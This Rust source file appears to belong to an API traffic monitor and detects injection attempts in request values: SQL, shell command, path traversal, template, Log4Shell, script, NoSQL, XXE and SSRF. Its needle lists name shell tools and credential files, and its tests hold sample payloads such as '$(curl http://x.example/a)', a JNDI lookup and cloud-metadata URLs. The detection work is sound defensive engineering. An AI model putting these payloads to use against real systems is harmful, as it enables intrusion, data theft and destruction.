//! Attempts: values of a request that are made to be taken for something else by whoever reads them next.
//!
//! A value without one of the bytes that attempts need costs one look at each byte, and meets nothing else.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use apitap_proto::v1::signal::Severity;

use super::fields::own_name;
use super::list::{self, Id};
use super::{Signals, at, has};
use crate::call::Message;
use crate::redact::found::Place;

/// Octets looked at of one value.
const VALUE_MAX: usize = 4096;
/// Occurrences of needles looked at of one value.
const HITS_MAX: usize = 64;

/// Whether what stands around a needle confirms it: the value before it, and behind it.
type Confirm = fn(&[u8], &[u8]) -> bool;

/// Needles in lower case.
const NEEDLES: &[(&str, Id, &str, Confirm)] = &[
    ("union", list::INJECT_SQL, "union", union),
    ("or", list::INJECT_SQL, "tautology", tautology),
    ("and", list::INJECT_SQL, "tautology", tautology),
    ("'", list::INJECT_SQL, "comment", |_, behind| {
        let behind = behind.trim_ascii_start();
        let rest = behind.strip_prefix(b";").unwrap_or(behind).trim_ascii_start();
        rest.starts_with(b"--") || begins(rest, b"drop table") || rest == b"#"
    }),
    ("sleep(", list::INJECT_SQL, "time", |_, behind| number_ends(behind)),
    ("benchmark(", list::INJECT_SQL, "time", |_, behind| number_ends(behind)),
    ("waitfor delay '", list::INJECT_SQL, "time", always),
    ("extractvalue(", list::INJECT_SQL, "error", always),
    ("updatexml(", list::INJECT_SQL, "error", always),
    ("information_schema.", list::INJECT_SQL, "catalogue", always),
    ("xp_cmdshell", list::INJECT_SQL, "command", always),
    (";", list::INJECT_COMMAND, "", |_, behind| command(behind)),
    ("|", list::INJECT_COMMAND, "", |_, behind| command(behind)),
    ("&&", list::INJECT_COMMAND, "", |_, behind| command(behind)),
    ("$(", list::INJECT_COMMAND, "", |_, behind| command(behind)),
    ("`", list::INJECT_COMMAND, "", |_, behind| command(behind)),
    ("../..", list::INJECT_TRAVERSAL, "", always),
    ("..\\..", list::INJECT_TRAVERSAL, "", always),
    ("..%2f", list::INJECT_TRAVERSAL, "coded", always),
    ("..%5c", list::INJECT_TRAVERSAL, "coded", always),
    ("%2e%2e%2f", list::INJECT_TRAVERSAL, "coded", always),
    ("/etc/passwd", list::INJECT_TRAVERSAL, "file", always),
    ("/etc/shadow", list::INJECT_TRAVERSAL, "file", always),
    ("/proc/self/", list::INJECT_TRAVERSAL, "file", always),
    ("\\win.ini", list::INJECT_TRAVERSAL, "file", always),
    ("{{", list::INJECT_TEMPLATE, "", |_, behind| expression(behind)),
    ("${", list::INJECT_TEMPLATE, "", |_, behind| expression(behind)),
    ("#{", list::INJECT_TEMPLATE, "", |_, behind| expression(behind)),
    ("<%=", list::INJECT_TEMPLATE, "", |_, behind| expression(behind)),
    ("${jndi:", list::INJECT_LOG4SHELL, "", always),
    ("${${", list::INJECT_LOG4SHELL, "hidden", |_, behind| has(behind, b":")),
    ("${::-j", list::INJECT_LOG4SHELL, "hidden", always),
    ("<script", list::INJECT_SCRIPT, "", |_, behind| {
        behind.first().is_some_and(|b| matches!(b, b'>' | b' ' | b'/' | b'\t' | b'\n'))
    }),
    ("onerror=", list::INJECT_SCRIPT, "", |before, _| has(before, b"<")),
    ("onload=", list::INJECT_SCRIPT, "", |before, _| has(before, b"<")),
];

static FIND: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    let needles = NEEDLES.iter().map(|(needle, ..)| needle);
    AhoCorasick::builder().ascii_case_insensitive(true).build(needles).ok()
});

/// Looks at one value of a request.
pub(super) fn value(signals: &mut Signals, place: Place<'_>, text: &[u8]) {
    let text = text.get(..VALUE_MAX).unwrap_or(text);
    if text.len() < 4 || !tells(text) {
        if text == b"169.254.169.254" {
            signals.raise_as(list::REQUEST_SSRF, Severity::High, "metadata", place);
        }
        return;
    }
    if let Some((severity, kind)) = forged(text)
        && !only_named(place, kind, text)
    {
        signals.raise_as(list::REQUEST_SSRF, severity, kind, place);
    }
    let Some(find) = &*FIND else { return };
    for hit in find.find_overlapping_iter(text).take(HITS_MAX) {
        let Some((_, id, kind, confirm)) = NEEDLES.get(hit.pattern().as_usize()) else { continue };
        let before = text.get(..hit.start()).unwrap_or_default();
        let behind = text.get(hit.end()..).unwrap_or_default();
        if confirm(before, behind) {
            signals.raise_as(*id, id.kind().severity, kind, place);
        }
    }
}

/// Looks at what is no single value: the names and the prologue of a body, and the fields of the head.
pub(super) fn body(signals: &mut Signals, request: &Message) {
    let body = request.body();
    let place = at("request.body");
    let dollar = |text: &[u8]| memchr::memchr(b'$', text).is_some();
    if dollar(body) && has(body, b"\"$") && OPERATORS.iter().any(|operator| member(body, operator))
    {
        signals.raise_as(list::INJECT_NOSQL, list::INJECT_NOSQL.kind().severity, "operator", place);
    }
    let prologue = body.get(..2048).unwrap_or(body);
    if prologue.trim_ascii_start().starts_with(b"<") {
        let entity = memchr::memmem::find(prologue, b"<!ENTITY").and_then(|at| prologue.get(at..));
        if entity.is_some_and(|entity| has(entity, b"SYSTEM") || has(entity, b"PUBLIC")) {
            signals.raise(list::INJECT_XXE, place);
        }
    }
    if dollar(&request.text) && has(&request.text, b"${") {
        for (_, value) in request.fields().filter(|(_, value)| has(value, b"${")) {
            let value = lower(value.get(..VALUE_MAX).unwrap_or(value));
            if has(&value, b"${jndi:") || has(&value, b"${::-j") || has(&value, b"${${") {
                signals.raise(list::INJECT_LOG4SHELL, at("request.header"));
            }
        }
    }
}

/// Operators of document stores that no API asks its callers for (MongoDB query language).
const OPERATORS: &[&[u8]] = &[
    b"\"$ne\"",
    b"\"$gt\"",
    b"\"$gte\"",
    b"\"$lt\"",
    b"\"$nin\"",
    b"\"$regex\"",
    b"\"$where\"",
    b"\"$exists\"",
];

/// Whether a quoted name is that of a member.
fn member(body: &[u8], name: &[u8]) -> bool {
    memchr::memmem::find_iter(body, name).take(8).any(|at| {
        let behind = body.get(at.saturating_add(name.len())..).unwrap_or_default();
        behind.trim_ascii_start().starts_with(b":")
    })
}

/// Whether a name of a query is an operator in brackets: `password[$ne]`.
pub(super) fn operator(name: &[u8]) -> bool {
    memchr::memmem::find(name, b"[$").is_some_and(|at| {
        let inner = name.get(at.saturating_add(1)..).unwrap_or_default();
        OPERATORS.iter().any(|operator| {
            let bare = operator.get(1..operator.len().saturating_sub(1)).unwrap_or_default();
            inner.strip_prefix(bare).is_some_and(|rest| rest.starts_with(b"]"))
        })
    })
}

/// Bytes of which every attempt has one.
const fn telling(b: u8) -> bool {
    matches!(
        b,
        b'\''
            | b'"'
            | b';'
            | b'|'
            | b'&'
            | b'$'
            | b'`'
            | b'{'
            | b'<'
            | b'('
            | b'/'
            | b'\\'
            | b'%'
            | b'='
            | b' '
    )
}

/// By octet: whether it is telling.
static TELLING: [bool; 256] = telling_table();

#[allow(clippy::indexing_slicing, reason = "evaluated at compile time")]
const fn telling_table() -> [bool; 256] {
    let mut table = [false; 256];
    let mut b = 0_u8;
    loop {
        table[b as usize] = telling(b);
        if b == 255 {
            return table;
        }
        b += 1;
    }
}

/// Whether one of the octets is telling.
fn tells(text: &[u8]) -> bool {
    let of = |b: &u8| TELLING.get(usize::from(*b)).copied().unwrap_or(false);
    let (eights, rest) = text.as_chunks::<8>();
    eights.iter().any(|eight| eight.iter().fold(false, |any, b| any | of(b))) || rest.iter().any(of)
}

const fn always(_: &[u8], _: &[u8]) -> bool {
    true
}

/// Whether a number follows, and no word: `5)`, `5-0`, but not `5 hours`.
fn number_ends(text: &[u8]) -> bool {
    let len = text.iter().take_while(|b| b.is_ascii_digit() || **b == b'.').count();
    let (number, rest) = text.split_at_checked(len).unwrap_or_default();
    !number.is_empty() && !rest.trim_ascii_start().first().is_some_and(u8::is_ascii_alphabetic)
}

fn lower(text: &[u8]) -> Vec<u8> {
    text.to_ascii_lowercase()
}

/// Whether `text` begins with these lower-case octets, ASCII case ignored.
fn begins(text: &[u8], prefix: &[u8]) -> bool {
    text.get(..prefix.len()).is_some_and(|head| head.eq_ignore_ascii_case(prefix))
}

/// What follows spaces and comments of SQL; nothing, where there are none.
fn spaced(text: &[u8]) -> &[u8] {
    let mut rest = text.trim_ascii_start();
    while let Some(comment) = rest.strip_prefix(b"/*") {
        let Some(end) = memchr::memmem::find(comment, b"*/") else { return b"" };
        rest = comment.get(end.saturating_add(2)..).unwrap_or_default().trim_ascii_start();
    }
    if rest.len() == text.len() { b"" } else { rest }
}

/// `union select 1, …`, `union all select a from b`, also with comments for spaces.
fn union(_: &[u8], behind: &[u8]) -> bool {
    let behind = lower(spaced(behind.get(..256).unwrap_or(behind)));
    let behind = behind.strip_prefix(b"all").map_or(behind.as_slice(), spaced);
    let Some(columns) = behind.strip_prefix(b"select").map(spaced) else { return false };
    let literal = columns.first().is_some_and(|b| b.is_ascii_digit() || b"*('\"@".contains(b));
    literal || columns.starts_with(b"null") || has(columns, b" from ") || has(columns, b"/from/")
}

/// `or 1=1`, `and 'a'='a`: the word stands alone, both sides are the same number or quoted text.
fn tautology(before: &[u8], behind: &[u8]) -> bool {
    let bound = |b: u8| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b')' | b'/');
    if !before.last().is_some_and(|&b| bound(b))
        || !behind.first().is_some_and(|&b| bound(b) || b == b'(')
    {
        return false;
    }
    let Some(equals) = behind
        .get(..64)
        .map_or_else(|| memchr::memchr(b'=', behind), |head| memchr::memchr(b'=', head))
    else {
        return false;
    };
    let (one, other) = behind.split_at_checked(equals).unwrap_or_default();
    let quote = |b: &u8| matches!(b, b'\'' | b'"' | b'(');
    let bare = |side: &[u8]| -> Vec<u8> {
        let side = side.iter().copied().filter(|b| !quote(b) && !b.is_ascii_whitespace());
        side.take_while(|b| b.is_ascii_alphanumeric()).collect()
    };
    let quoted = one.iter().any(quote);
    let (one, other) = (bare(one), bare(other.get(1..).unwrap_or_default()));
    let number = !one.is_empty() && one.iter().all(u8::is_ascii_digit);
    !one.is_empty() && (quoted || number) && other.starts_with(&one)
}

/// Words of a shell that stand alone, and such that need something to work on.
const ALONE: &[&[u8]] = &[b"id", b"whoami", b"ls", b"uname", b"ifconfig", b"hostname", b"env"];
const WORKING: &[&[u8]] = &[
    b"cat",
    b"wget",
    b"curl",
    b"nc",
    b"bash",
    b"sh",
    b"ping",
    b"rm",
    b"nslookup",
    b"python",
    b"powershell",
    b"sleep",
    b"ls",
];

/// Whether a command of a shell follows.
fn command(behind: &[u8]) -> bool {
    let behind = behind.trim_ascii_start();
    let len = behind.iter().take_while(|b| b.is_ascii_alphanumeric()).count();
    let (word, rest) = behind.split_at_checked(len).unwrap_or_default();
    let word = |words: &[&[u8]]| words.iter().any(|known| word.eq_ignore_ascii_case(known));
    let ends = rest.is_empty()
        || matches!(rest, [b')' | b'`' | b';' | b'|' | b'&' | b'#', ..] | [b' ', b'-', ..]);
    let works = matches!(
        rest,
        [b' ' | b'\t', b'/' | b'-' | b'.' | b'$' | b'0'..=b'9' | b'h', ..] | [b'$', ..]
    );
    word(ALONE) && ends || word(WORKING) && works
}

/// Whether an expression that only a template engine would work out stands in braces: `7*7`, `config.items()`.
fn expression(behind: &[u8]) -> bool {
    let end = behind.iter().take(128).position(|b| matches!(b, b'}' | b'%'));
    let inner = lower(behind.get(..end.unwrap_or(0)).unwrap_or_default());
    let inner = inner.trim_ascii();
    let product = inner.split(|&b| b == b'*').map(<[u8]>::trim_ascii);
    let mut product = product.map(|part| {
        let part = part.strip_prefix(b"'").and_then(|p| p.strip_suffix(b"'")).unwrap_or(part);
        !part.is_empty() && part.iter().all(u8::is_ascii_digit)
    });
    let multiplied = inner.contains(&b'*') && product.all(|number| number);
    let reaching: [&[u8]; 6] = [
        b"__class__",
        b"__globals__",
        b".getruntime",
        b"constructor.",
        b"self.__",
        b"config.items",
    ];
    multiplied || reaching.iter().any(|part| has(inner, part))
}

/// Whether a URL is one that servers do not follow: of a resource of MCP or a document of LSP, which have the scheme
/// `file` and are asked for as `uri`; where an application of the caller's own waits (RFC 8252 §7.3); where a browser is, or what it
/// was kept from (reports, telemetry).
fn only_named(place: Place<'_>, kind: &str, text: &[u8]) -> bool {
    let inner =
        place.path.strip_prefix("$[]").or_else(|| place.path.strip_prefix('$')).unwrap_or_default();
    let name = own_name(place.path);
    let rpc = [".params.", ".result."].iter().any(|part| inner.starts_with(part));
    let told = [".csp-report.", ".resourceSpans[]", ".resourceLogs[]", ".resourceMetrics[]"];
    match kind {
        "metadata" => false,
        _ if told.iter().any(|part| inner.starts_with(part)) => true,
        "scheme" => rpc && matches!(name, "uri" | "rootUri") && begins(text.trim_ascii(), b"file:"),
        _ => matches!(
            name,
            "redirect_uri"
                | "redirectUri"
                | "post_logout_redirect_uri"
                | "referrer"
                | "referer"
                | "page_url"
                | "pageUrl"
        ),
    }
}

/// Where a URL in a value would lead a server that follows it (OWASP SSRF Prevention).
fn forged(text: &[u8]) -> Option<(Severity, &'static str)> {
    let text = text.trim_ascii();
    // What has words behind it is read by people.
    if memchr::memchr2(b' ', b'\n', text).is_some() {
        return None;
    }
    let colon = memchr::memmem::find(text.get(..16).unwrap_or(text), b"://")?;
    let scheme = lower(text.get(..colon)?);
    match scheme.as_slice() {
        b"http" | b"https" => {}
        b"gopher" | b"file" | b"dict" | b"ldap" | b"ldaps" | b"jar" | b"netdoc" | b"php"
        | b"phar" | b"expect" | b"tftp" => {
            return Some((Severity::High, "scheme"));
        }
        _ => return None,
    }
    let rest = text.get(colon.saturating_add(3)..)?;
    let end =
        rest.iter().position(|b| matches!(b, b'/' | b'?' | b'#' | b'\\')).unwrap_or(rest.len());
    let authority = rest.get(..end)?;
    let host = authority.rsplit(|&b| b == b'@').next().unwrap_or_default();
    let host = match host.strip_prefix(b"[") {
        Some(six) => six.split(|&b| b == b']').next().unwrap_or_default(),
        None => host.split(|&b| b == b':').next().unwrap_or_default(),
    };
    let host = lower(host);
    let host = std::str::from_utf8(host.strip_suffix(b".").unwrap_or(&host)).ok()?;
    if matches!(
        host,
        "metadata.google.internal" | "metadata" | "instance-data" | "metadata.azure.internal"
    ) {
        return Some((Severity::High, "metadata"));
    }
    if host == "localhost" || host.ends_with(".localhost") {
        return Some((Severity::Medium, "loopback"));
    }
    let four = four(host).or_else(|| host.parse::<Ipv6Addr>().ok()?.to_ipv4_mapped());
    if let Some(ip) = four {
        let written =
            if host.parse::<Ipv4Addr>().is_ok() { Severity::Medium } else { Severity::High };
        return match ip {
            _ if matches!(
                ip.octets(),
                [169, 254, 169, 254] | [169, 254, 170, 2] | [100, 100, 100, 200]
            ) =>
            {
                Some((Severity::High, "metadata"))
            }
            _ if ip.is_loopback() || ip.is_unspecified() => Some((written, "loopback")),
            _ if ip.is_private() || ip.is_link_local() => Some((written, "private_address")),
            _ => None,
        };
    }
    let six = host.parse::<Ipv6Addr>().ok()?;
    match six {
        _ if six == Ipv6Addr::new(0xfd00, 0xec2, 0, 0, 0, 0, 0, 0x254) => {
            Some((Severity::High, "metadata"))
        }
        _ if six.is_loopback() || six.is_unspecified() => Some((Severity::Medium, "loopback")),
        _ if six.is_unique_local() || six.is_unicast_link_local() => {
            Some((Severity::Medium, "private_address"))
        }
        _ => None,
    }
}

/// An IPv4 address as `inet_aton` reads it: dotted, or as one decimal or hexadecimal number.
fn four(host: &str) -> Option<Ipv4Addr> {
    let number = match host.strip_prefix("0x") {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None => host.parse::<u32>().ok(),
    };
    number.map(Ipv4Addr::from).or_else(|| host.parse().ok())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(&'static str, &'static str)> {
        let mut signals = Signals::default();
        signals.begin_request("POST");
        value(&mut signals, at("request.body:$.a"), text.as_bytes());
        signals.hits.iter().map(|hit| (hit.id.kind().id, hit.kind)).collect()
    }

    #[test]
    fn attempts_are_told() {
        for (text, id) in [
            ("1' OR '1'='1", "inject.sql"),
            ("1 or 1=1", "inject.sql"),
            ("x\" or \"a\"=\"a", "inject.sql"),
            ("5 UNION SELECT name, 2 FROM users", "inject.sql"),
            ("5/**/union/**/all select 1", "inject.sql"),
            ("admin'--", "inject.sql"),
            ("admin' -- -", "inject.sql"),
            ("1'; DROP TABLE users", "inject.sql"),
            ("1 and sleep(5)", "inject.sql"),
            ("; cat /etc/hosts", "inject.command"),
            ("8.8.8.8|whoami", "inject.command"),
            ("$(curl http://x.example/a)", "inject.command"),
            ("`id`", "inject.command"),
            ("a && ping -c 1 b", "inject.command"),
            ("../../../boot.ini", "inject.path_traversal"),
            ("..%2f..%2fetc", "inject.path_traversal"),
            ("file=/etc/passwd", "inject.path_traversal"),
            ("{{7*7}}", "inject.template"),
            ("${7*'7'}", "inject.template"),
            ("{{ ''.__class__.__mro__ }}", "inject.template"),
            ("${jndi:ldap://x.example/a}", "inject.log4shell"),
            ("${${lower:j}ndi:ldap://x}", "inject.log4shell"),
            ("<script>alert(1)</script>", "inject.script"),
            ("<img src=x onerror=alert(1)>", "inject.script"),
            ("http://169.254.169.254/latest/meta-data/", "request.ssrf"),
            ("http://2852039166/", "request.ssrf"),
            ("http://[::ffff:10.0.0.1]/", "request.ssrf"),
            ("https://user@localhost:8080/admin", "request.ssrf"),
            ("gopher://x.example:6379/_INFO", "request.ssrf"),
            ("FILE:///etc/hosts", "request.ssrf"),
            ("http://metadata.google.internal/computeMetadata/v1/", "request.ssrf"),
            ("169.254.169.254", "request.ssrf"),
        ] {
            assert!(found(text).iter().any(|(found, _)| *found == id), "{text}: {:?}", found(text));
        }
    }

    #[test]
    fn ordinary_values_are_not() {
        for text in [
            "O'Brien or O'Neil",
            "black or white = both",
            "size=10 or color=red",
            "The union selected a new chair",
            "the union select committee met",
            "credit union, select branch",
            "it's -- you know -- fine",
            "don't drop table tennis",
            "Tom; id follows",
            "cats & dogs; curl up; ls are letters",
            "a | b | cat",
            "see ../img/a.png",
            "Hello {{name}}, your ${product} is here",
            "{{ order.total }}",
            "10 * 7",
            "https://shop.example/a?next=http://10.0.0.1/",
            "https://93.184.216.34/",
            "https://example.com/callback",
            "http://10.example.com/",
            "javascript onload = later",
            "a script < b",
            "10.0.0.1",
            "sleep (deep) well",
            "12345",
            "R&D sh",
        ] {
            assert!(found(text).is_empty(), "{text}: {:?}", found(text));
        }
    }

    #[test]
    fn operators_in_names() {
        for (name, yes) in [
            ("password[$ne]", true),
            ("a[b][$regex]", true),
            ("filter[$top]", false),
            ("$ne", false),
            ("a[$ne", false),
        ] {
            assert_eq!(operator(name.as_bytes()), yes, "{name}");
        }
        assert!(member(br#"{"p": {"$gt" : ""}}"#, b"\"$gt\""));
        assert!(!member(br#"{"p": "\"$gt\" is greater"}"#, b"\"$gt\""));
    }

    proptest::proptest! {
        #[test]
        fn no_value_upsets_it(text in proptest::collection::vec(proptest::sample::select(b"or 1=''{}$(;|/.:\\<unio-cat%2f9".to_vec()), 0..60)) {
            let mut signals = Signals::default();
            value(&mut signals, at(""), &text);
            let _operator = operator(&text);
        }
    }
}
